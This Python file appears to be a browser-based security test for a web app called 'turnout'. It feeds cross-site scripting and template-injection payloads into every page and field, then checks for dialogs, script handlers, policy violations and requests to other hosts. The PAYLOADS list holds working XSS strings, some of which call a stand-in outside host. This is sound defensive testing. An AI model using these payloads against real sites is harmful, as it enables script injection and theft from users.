"""Text that would like to run, in every field that a page shows, in a real browser: what of it ran.

A payload has run if a dialog opened, if the page's policy had to stop something, if an element has a handler or an
address that is a script, or if anything was asked of another host.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote, urlencode

from console.inhabited import CLAIM, EXCERPT, NOTED, PASSAGE, InhabitedServer, file_name, gather, inhabited
from secured_server import call, forget, make_key
from turnout.web.auth import SCOPES

DATA = os.environ.get("TURNOUT_DATA", "")
# Our own: every way out of a text, an attribute, a script, a comment, a template, an address.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onfocus=alert(1) autofocus tabindex=1 x='",
    '" hx-get="http://elsewhere.example/" hx-trigger="load" x="',
    "</textarea><script>alert(1)</script><textarea>",
    "</title><script>alert(1)</script>",
    "--><iframe srcdoc='<script>parent.alert(1)</script>'></iframe><!--",
    "javascript:alert(1)",
    "data: {}\n\nevent: row\ndata: <img src=x onerror=alert(1)>\n\n",
    "{{ ''.__class__.__mro__ }}${alert(1)}<%= 7*7 %>",
    "<link rel=stylesheet href=//elsewhere.example/x.css><meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<style>@import '//elsewhere.example/x.css';</style><base href=//elsewhere.example/>",
    "<form action=//elsewhere.example><button autofocus>x</button></form>",
    "\u2028<scr\u0000ipt>alert(1)</scr\u0000ipt>\u202e&lt;script&gt;alert(1)&lt;/script&gt;",
)
# Of one world: a dozen pages show all of them.
CHUNK_CHARACTERS = 9_000
# Filters of the list that come back in its form, whatever they say.
ECHOED = ("text", "route", "session", "profile", "by", "key")
WATCH = """() => { window.stopped = 0; addEventListener("securitypolicyviolation", () => { window.stopped += 1 }) }"""
# Our own markup has no handlers, frames or forms that lead elsewhere; htmx puts requests only where we wrote them.
FOUND = """() => {
  const bad = [];
  for (const one of document.querySelectorAll("*")) {
    for (const at of one.attributes) {
      if (at.name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(at.value) && at.name !== "value")
        bad.push(one.outerHTML.slice(0, 120));
    }
    const place = one.getAttribute("hx-get") || one.getAttribute("hx-post") || one.getAttribute("action") || "/";
    if (!place.startsWith("/") || place.startsWith("//")) bad.push(one.outerHTML.slice(0, 120));
  }
  const never = "iframe, object, embed, base, main script, main link, main style, main meta";
  for (const one of document.querySelectorAll(never))
    bad.push(one.outerHTML.slice(0, 120));
  return [bad, window.stopped];
}"""
ADDRESS = re.compile(r"//|\\\\|www\.", re.IGNORECASE)
# What of these is not there as text: in what one reads, in a field, behind a title. Blanks and what cannot be shown are
# left out on both sides.
HIDDEN = """([within, words]) => {
  const plain = (text) => text.replace(/[\\s\\p{C}\\ufffd]+/gu, "");
  let shown = "";
  for (const one of document.querySelectorAll(within)) {
    shown += one.textContent + "\\n";
    for (const part of [one, ...one.querySelectorAll("input, textarea, [title]")])
      shown += [part.value, part.title, ""].join("\\n");
  }
  shown = plain(shown);
  return words.filter((word) => !shown.includes(plain(word)));
}"""


class AttackResult(NamedTuple):
    """What was shown, and what came of it."""

    payloads: int
    views: int
    """Pages and answers that showed them."""
    ran: list[str]
    """Dialogs, and markup that is not ours."""
    stopped: int
    """What the content security policy had to stop."""
    left: list[str]
    """Requests to another host."""
    shown: int
    """Times that one of them was found on a page as the text that it is."""
    hidden: list[str]
    """Those that were not, where they should be."""


def read_list() -> list[str]:
    """The lists that others collected; empty where the folder of labelled data is not."""
    file = Path(DATA) / "payloads" / "xss.jsonl"
    if not DATA or not file.is_file():
        return []
    return [json.loads(line)["payload"] for line in file.read_text(encoding="utf-8").split("\n") if line]


class Watcher:
    """A page, and whatever on it is not ours."""

    def __init__(self, browser: Any, url: str) -> None:
        self.context = browser.new_context(reduced_motion="reduce")
        self.context.add_init_script(f"({WATCH})()")
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.ran: list[str] = []
        self.left: list[str] = []
        self.hidden: list[str] = []
        self.stopped = self.views = self.shown = 0
        self.page.on("dialog", self.meet)
        self.page.on(
            "request",
            lambda one: None if one.url.startswith((url, "data:", f"blob:{url}")) else self.left.append(one.url),
        )

    def meet(self, dialog: Any) -> None:
        self.ran.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def look(self) -> None:
        bad, reports = self.page.evaluate(FOUND)
        self.views += 1
        self.stopped += reports
        self.ran += [f"{self.page.url}: {one}" for one in bad]

    def find(self, shown: ExpectedText) -> None:
        """That each of these is there, and is text."""
        missing = self.page.evaluate(HIDDEN, [shown.within, shown.words])
        self.shown += len(shown.words) - len(missing)
        self.hidden += [f"{self.page.url} {shown.within}: {one}" for one in missing]


def try_payloads(browser: Any, folder: Path, words: Sequence[str]) -> AttackResult:
    """Show them in every field."""
    with inhabited(folder, words=words) as world:
        for ident, some in zip(world.decisions[::-1], gather(words, EXCERPT)[::-1], strict=False):
            world.served.store.records().judge(ident, "wrong", by="somebody", note="\n".join(some))
        watcher = Watcher(browser, world.served.url)
        for shown in show(watcher.page, world, words, watcher.context):
            watcher.look()
            for one in shown:
                watcher.find(one)
        watcher.context.close()
        return AttackResult(
            len(words), watcher.views, watcher.ran, watcher.stopped, watcher.left, watcher.shown, watcher.hidden
        )


class ExpectedText(NamedTuple):
    """What must be read somewhere on a page."""

    within: str
    words: Sequence[str]


Views = Iterator[Sequence[ExpectedText]]
"""What is shown, view by view."""


def show(page: Any, world: InhabitedServer, words: Sequence[str], context: Any) -> Views:
    """One view after the other."""
    url = world.served.url
    for path in (*world.pages, "/traffic?span=hour&profile=tiers"):
        page.goto(url + path)
        names = [file_name(word) for word in words]
        yield [ExpectedText("#profile option", names)] if path == "/playground" else []
    yield from _decisions(page, world, words)
    yield from _forms(page, url, words)
    yield from _applications(page, url, words)
    for path in ("/decisions?outcome={}", "/traffic?span={}", "/label?profile={}", "/profiles/{}", "/learning/{}/x/y"):
        page.goto(url + path.format(quote(words[0][:200].replace("/", ""), safe="")))
        yield []
    yield from _keys(page, world, words, context)


def _decisions(page: Any, world: InhabitedServer, words: Sequence[str]) -> Views:
    """Questions, sessions and notes; reasons and policies; filters that come back."""
    url, groups = world.served.url, gather(words, EXCERPT)
    ids = world.decisions[-len(groups) :]
    for ident, some in zip(ids, groups, strict=True):
        page.goto(f"{url}/decisions/{ident}")
        # Of a long one the beginning is shown.
        begun = [word[:250] for word in some]
        yield [ExpectedText(".asked", begun), ExpectedText("#words", begun), ExpectedText(".facts", [some[0][:150]])]
    page.goto(f"{url}/decisions/{world.decisions[-len(groups) - 1]}")
    yield [ExpectedText(".track", words), ExpectedText(".facts", words)]
    for start in range(0, len(words), len(ECHOED)):
        said = [word[:200].strip() for word in words[start : start + len(ECHOED)]]
        page.goto(f"{url}/decisions?{urlencode(dict(zip(ECHOED, said, strict=False)))}")
        # The select boxes have only what there is; what was asked for beside that is in the address.
        yield [
            ExpectedText(
                "form", [word for name, word in zip(ECHOED, said, strict=False) if name in ("text", "session")]
            )
        ]


def _forms(page: Any, url: str, words: Sequence[str]) -> Views:
    """What is tried and comes back: a question in the playground, names in a profile that is none."""
    page.goto(f"{url}/playground")
    page.locator("textarea").first.fill("\n".join(words))
    page.get_by_role("button", name="Decide").press("Enter")
    page.locator("#result .verdict").first.wait_for()
    yield []
    page.goto(f"{url}/profiles")
    policies = "".join(f"[policy.{json.dumps(word)}]\nmodel = 'x'\n" for word in dict.fromkeys(words))
    page.locator("#source").fill(f'extends = "tiers"\n{policies}')
    page.get_by_role("button", name="Validate").press("Enter")
    page.locator("#problems > *").first.wait_for()
    yield [
        ExpectedText("#problems", [word[:20] for word in words if word.isprintable() and not set(word) & set("'\"\\")])
    ]


def _applications(page: Any, url: str, words: Sequence[str]) -> Views:
    """Answers, passages of sources and of documentation, a card's fields."""
    # A number in brackets is a citation, which is checked and may be left out; so is an address that no source has.
    plain = [word[:60] for word in words if "[" not in word[:60] and not ADDRESS.search(word)]
    asked = [("/ask", NOTED, "#ended a", [ExpectedText("#written", plain)])]
    asked += [
        (
            "/ask",
            f"When was the boiler zq{number} serviced?",
            "#ended a",
            [ExpectedText("#sections", list(_readable(some)))],
        )
        for number, some in enumerate(gather(words, PASSAGE))
    ]
    asked += [
        ("/docs", "How often is a request of the client retried?", "#ended p", []),
        ("/chat", CLAIM, ".claim", [ExpectedText(".claim ul", words), ExpectedText(".source-card", words)]),
        ("/study", "Define osmosis", "#saved *", []),
    ]
    # A question that is all payload may have no answer: then a sentence says so.
    asked += [(path, "", ".error, .turn, #told-here *, #ended *, #saved *", []) for path in ("/ask", "/docs", "/chat")]
    for path, question, ended, shown in asked:
        page.goto(url + path)
        if path == "/study":
            image = {"name": f"{words[0]}.png", "mimeType": "image/png", "buffer": b"\x89PNG\r\n\x1a\n" + bytes(64)}
            page.set_input_files("#image", image)
        if shown and shown[0].within == "#sections":
            page.select_option("#source", "files")
        page.locator("[data-search]").fill(question or "\n".join(words)[:1900])
        page.keyboard.press("Enter")
        page.locator(ended).first.wait_for()
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
        yield shown


def _readable(words: Sequence[str]) -> Iterator[str]:
    """What a passage of a Markdown file has of them: no comments, links or entities; of a long one the start."""
    return (word[:60] for word in words if not set("[&") & set(word) and "<!" not in word)


def _keys(page: Any, world: InhabitedServer, words: Sequence[str], context: Any) -> Views:
    """Names and tenants of keys; from here on one signs in."""
    url = world.served.url
    keys = [make_key(world.served.store, name=word[:200], tenant=word[:100]) for word in words]
    keys.append(make_key(world.served.store, name="own", scopes=SCOPES))
    forget(world.served)
    body = urlencode({"key": keys[-1]}).encode()
    got = call(url, "POST", "/login", body, headers={"sec-fetch-site": "same-origin"})
    name, _, value = got.headers["set-cookie"].partition(";")[0].partition("=")
    context.add_cookies([{"name": name, "value": value, "url": url}])
    for path in ("/keys", "/decisions", "/"):
        page.goto(url + path)
        yield [ExpectedText("table", [word[:200] for word in words])] if path == "/keys" else []
